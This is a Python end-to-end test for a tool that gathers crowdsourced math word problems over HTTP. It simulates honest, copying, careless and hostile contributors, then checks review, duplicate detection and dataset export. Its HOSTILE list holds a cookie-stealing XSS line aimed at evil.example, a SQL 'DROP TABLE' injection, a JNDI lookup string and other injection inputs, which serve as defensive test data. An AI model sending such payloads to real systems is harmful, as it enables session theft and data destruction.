"""From generated seeds to an exported data set: 200 contributions of all kinds, over HTTP."""

import json
import random
import re
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from rapidfuzz import fuzz

from scratchwork import Family, Problem, generate, load_families, read_problems, write_problems
from scratchwork.collecting.forms import answer_key
from scratchwork.collecting.neighbours import Neighbours
from scratchwork.collecting.schema import Contributor, Setting, Submission
from scratchwork.collecting.storing import Store
from scratchwork.families.loading import TOPICS_FOLDER
from scratchwork.problems.duplicates import (
    FEWEST_LETTERS,
    Thresholds,
    compared_text,
    without_digits,
)
from tests.collecting.clients import PASSWORD, ContributorClient, ReviewerClient, serving
from tests.collecting.test_collect_command import run
from tests.collecting.test_handing_in import refusals_of, submissions_of

pytestmark = pytest.mark.usefixtures("cheap_hashes")

TOPICS = ("percent", "averages", "ages", "trains", "discount", "ratio", "clocks", "races")
SEEDS, ROUNDS = 40, 10
HOSTILE = (
    "<script>document.location='//evil.example/'+document.cookie</script> costs 3 and 4?",
    "Robert'); DROP TABLE submissions;-- buys 5 apples and 6 pears, how many?",
    "%s%s%s%n {{7*7}} ${jndi:ldap://x} is how much of 12 and 13?",
    "\x00\x1b[2J how many are 1 and 2?",
    "x" * 10_001,
)
PEOPLE = {"good": 5, "replica": 2, "copier": 1, "careless": 1, "hostile": 1}


@dataclass
class Person:
    """A simulated contributor."""

    kind: str
    number: int
    client: ContributorClient
    handed: list[dict[str, Any]] = field(default_factory=list[dict[str, Any]])
    """What was sent, with what became of it."""


@dataclass
class Crowd:
    """Everyone who writes, and what they write from."""

    people: list[Person]
    fresh: list[Problem]
    """Good problems of families that no seed is of."""
    families: dict[str, Family]
    """The family of each seed, by the seed's question."""
    chance: random.Random

    def round(self, k: int) -> None:
        """Each person hands in twice."""
        for turn in (2 * k, 2 * k + 1):
            for person in self.people:
                task = person.client.task()
                write = getattr(self, f"_{person.kind}")
                seed, problem = write(person, task["seeds"], turn)
                key = f"{person.kind} {turn}"
                asked = {"task": task["task"], "seed": seed["id"], "key": key, "problem": problem}
                answer = person.client.post("/api/hand-in", asked)
                assert answer.status_code == 200, answer.text
                person.handed.append(answer.json() | {"problem": problem, "is_copied": False})
                if turn % 7 == 0:  # and a double click now and then
                    again = person.client.post("/api/hand-in", asked).json()
                    assert again["taken"] == answer.json()["taken"]

    def _good(self, _: Person, seeds: list[Any], turn: int) -> tuple[Any, dict[str, Any]]:
        problem = as_sent(self.fresh.pop())
        return seed_for(problem, seeds), problem

    def _replica(self, person: Person, seeds: list[Any], turn: int) -> tuple[Any, dict[str, Any]]:
        """The same story with other numbers: the nearest of its family to any of the seeds."""
        pairs = [
            (seed, problem)
            for seed in seeds
            for problem in made(
                self.families[seed["problem"]["question"]], 100 * turn + person.number
            )
            if is_usable(problem) and seed_for(as_sent(problem), [seed, *seeds]) is seed
        ]
        seed, problem = max(pairs, key=lambda pair: likeness(pair[1], pair[0]["problem"]))
        return seed, as_sent(problem)

    def _copier(self, _: Person, seeds: list[Any], turn: int) -> tuple[Any, dict[str, Any]]:
        if turn % 4 == 3:  # a seed as it is
            seed = seeds[0]["problem"]
            letter = next(c for c in "ABCDE" if c != seed["correct"])
            return seeds[0], seed | {"rationale": "As everyone knows.", "correct": letter}
        good = [h for p in self.people if p.kind == "good" for h in p.handed if h["taken"]]
        chosen = self.chance.choice([h for h in good if not h["is_copied"]])
        chosen["is_copied"] = True
        return seed_for(chosen["problem"], seeds), chosen["problem"]

    def _careless(self, _: Person, seeds: list[Any], turn: int) -> tuple[Any, dict[str, Any]]:
        problem = as_sent(self.fresh.pop())
        letter = next(c for c in "ABCDE" if c != problem["correct"])
        wrong = f"First, 17 + 25 = {43 + turn}. Then 9137 comes out.\nThe answer is {letter}."
        problem |= {"rationale": wrong, "correct": letter}
        return seed_for(problem, seeds), problem

    def _hostile(self, _: Person, seeds: list[Any], turn: int) -> tuple[Any, dict[str, Any]]:
        text = HOSTILE[turn % len(HOSTILE)]
        options = [f"{text[:900]} {k}" for k in range(5)]
        question = f"{text} {turn * 7919} {turn * 104729}"
        return seeds[0], {"question": question, "options": options} | {
            "rationale": f"{text[:500]} so it is A.",
            "correct": "A",
        }


def as_sent(problem: Problem) -> dict[str, Any]:
    return {
        "question": problem.question,
        "options": list(problem.options),
        "rationale": problem.rationale,
        "correct": problem.correct,
    }


def review_all(reviewers: list[ReviewerClient], copied: set[int]) -> None:
    """Let the reviewers read until nothing is left; they judge by what the page shows."""
    is_left = True
    while is_left:
        is_left = False
        for reviewer in reviewers:
            item = reviewer.next()
            if item is None:
                continue
            is_left = True
            number, problem = item["submission"], item["problem"]
            amiss = [
                *item["remarks"]["sentences"],
                *(item["remarks"]["audit"] or {}).get("complaints", []),
            ]
            twins = re.findall(r"submission (\d+)", item["mark_reason"] or "")
            if any(int(twin) < number for twin in twins):
                copied.add(number)
                verdict = reviewer.decide(number, "reject", reason="copied")
            elif "so it is A." in problem["rationale"]:
                verdict = reviewer.decide(number, "reject", reason="this is no problem")
            elif any("17 + 25" in sentence for sentence in amiss):
                verdict = reviewer.decide(number, "reject", reason=amiss[0])
            elif number % 10 == 0:
                mended = problem | {"rationale": problem["rationale"] + "\nThis can be checked."}
                verdict = reviewer.decide(number, "correct", corrected=mended)
            else:
                verdict = reviewer.decide(number, "accept")
            assert verdict.status_code == 200, verdict.text


def test_from_seeds_to_a_data_set(tmp_path: Path) -> None:
    families = [f for topic in TOPICS for f in load_families(TOPICS_FOLDER / f"{topic}.toml")]
    chance = random.Random(3)
    chance.shuffle(families)
    of_seeds, others = families[:SEEDS], families[SEEDS:]
    seeds = [next(p for p in made(family, 1) if is_usable(p)) for family in of_seeds]
    families_of = {seed.question: f for seed, f in zip(seeds, of_seeds, strict=True)}
    fresh = [p for family in others for p in made(family, 3)[:1] if is_usable(p)]
    write_problems(tmp_path / "seeds.jsonl", seeds)

    folder = tmp_path / "workshop"
    run("init", folder, "--seeds", tmp_path / "seeds.jsonl", "--title", "The whole way")
    count = sum(PEOPLE.values())
    links = run("invite", folder, "--name", "Writer", "--count", count).stdout.splitlines()
    for name in ("Emmy", "Kurt"):
        run("reviewer", folder, "--name", name, typed=f"{PASSWORD}\n")

    copied: set[int] = set()
    with Store.open(folder) as store:
        # Drawn when a collection is made; here each run is the same.
        store.write(lambda s: s.merge(Setting(key="randomness", value=7)))
    with Store.open(folder) as store, serving(store) as url:
        kinds = [kind for kind, many in PEOPLE.items() for _ in range(many)]
        tokens = [link.rpartition("/join/")[2] for link in links]
        people = [
            Person(kind, number, ContributorClient(url, token))
            for number, (kind, token) in enumerate(zip(kinds, tokens, strict=True), 1)
        ]
        crowd = Crowd(people, fresh, families_of, chance)
        reviewers = [ReviewerClient(url) for _ in range(2)]
        for reviewer, name in zip(reviewers, ("Emmy", "Kurt"), strict=True):
            assert reviewer.log_in(name).status_code == 200
        for k in range(ROUNDS):
            crowd.round(k)
            review_all(reviewers, copied)
        check_store(store, people, copied)
        figures = reviewers[0].get("/api/figures").json()
        assert figures["to_review"] == 0
        assert figures["agreement"]["pairs"] > 0
        assert figures["agreement"]["raw"] == 1.0

    out = tmp_path / "data"
    said = run("export", folder, "--to", out, "--dev", 12, "--test", 12).stdout
    assert "12 dev, 12 test" in said
    check_export(out, people)


def made(family: Family, seed: int) -> list[Problem]:
    return [m.problem for m in generate([family], 20, seed)]


def is_usable(problem: Problem) -> bool:
    return len(set(problem.options)) == len(problem.options) == 5


def answer(problem: dict[str, Any]) -> str:
    return problem["options"]["ABCDE".index(problem["correct"])]


def seed_for(problem: dict[str, Any], seeds: list[Any]) -> Any:
    """A seed whose answer is another."""
    return next(s for s in seeds if answer_key(answer(s["problem"])) != answer_key(answer(problem)))


def likeness(problem: Problem, seed: dict[str, Any]) -> float:
    """How alike two questions are without their digits; 0 where they are the same or short."""
    texts = [compared_text(question) for question in (problem.question, seed["question"])]
    letters = [without_digits(text) for text in texts]
    if texts[0] == texts[1] or len(letters[0]) < FEWEST_LETTERS:
        return 0
    return fuzz.ratio(*letters)


def check_store(store: Store, people: list[Person], copied: set[int]) -> None:
    sent = [handed for person in people for handed in person.handed]
    assert len(sent) == 200
    submissions = {s.id: s for s in submissions_of(store)}
    taken = {h["submission"]: h for h in sent if h["taken"]}
    assert set(submissions) == set(taken)
    assert len(refusals_of(store)) >= len(sent) - len(taken)
    for number, handed in taken.items():
        assert submissions[number].problem["question"] == handed["problem"]["question"]

    by_kind: dict[str, list[Submission]] = {kind: [] for kind in PEOPLE}
    kind_of = {person.number: person.kind for person in people}
    for submission in submissions.values():
        by_kind[kind_of[submission.contributor_id]].append(submission)
    # Copies are found, and so is what they are copies of; seeds that were copied came back.
    assert len(by_kind["copier"]) == 15
    assert {s.id for s in by_kind["copier"]} <= copied
    assert len(copied) <= 20
    for copy in by_kind["copier"]:
        assert copy.marked
        assert copy.status == "rejected"
        assert submissions[(copy.nearest or {})["submission_id"]].marked
    (copier,) = (p for p in people if p.kind == "copier")
    sent_back = [h for h in copier.handed if not h["taken"]]
    assert Counter(h["code"] for h in sent_back) == {"copy": 5}
    assert all(h["neighbour"]["question"] == h["problem"]["question"] for h in sent_back)
    assert {s.relation for s in by_kind["replica"]} == {"replica"}
    originals = Counter(s.relation for s in by_kind["good"])["original"]
    assert originals >= 0.8 * len(by_kind["good"])
    assert all(s.status in ("rejected", "waiting") for s in by_kind["hostile"])

    rates = store.read(lambda s: {c.id: c.review_rate for c in s.query(Contributor)})
    careless = [rates[p.number] for p in people if p.kind == "careless"]
    good = [rates[p.number] for p in people if p.kind == "good"]
    assert careless == [1.0]
    assert max(good) <= 0.2
    sampled = {kind: sum(s.in_sample for s in work) / len(work) for kind, work in by_kind.items()}
    assert sampled["careless"] == 1.0
    assert sampled["good"] < 0.5
    assert all((s.audit or {})["false_equations"] for s in by_kind["careless"])


def check_export(out: Path, people: list[Person]) -> None:
    parts = {part: list(read_problems(out / f"{part}.jsonl")) for part in ("train", "dev", "test")}
    assert [len(parts[part]) for part in ("dev", "test")] == [12, 12]
    assert len(parts["train"]) > 40
    everything = [problem for part in parts.values() for problem in part]
    questions = {problem.question for problem in everything}
    bad = [h for p in people if p.kind in ("careless", "hostile") for h in p.handed]
    assert not questions & {h["problem"]["question"] for h in bad}
    assert len(questions) == len(everything)
    index = Neighbours()
    for k, problem in enumerate(parts["train"], 1):
        index.add(("submission", k), problem.question)
    thresholds = Thresholds()
    for problem in (*parts["dev"], *parts["test"]):
        for near in index.nearest(problem.question):
            assert near.ratio < thresholds.text
            assert near.digit_free < thresholds.digit_free
    rows = [json.loads(line) for line in (out / "train.jsonl").read_text("utf-8").splitlines()]
    assert {r["provenance"]["relation"] for r in rows} == {"original", "replica"}
    assert any(r["rationale"].endswith("This can be checked.") for r in rows)
    card = (out / "README.md").read_text("utf-8")
    assert "\n# The whole way\n" in card
    for word in ("replica", "agree", "rejected", "vocabulary"):
        assert word in card.lower()
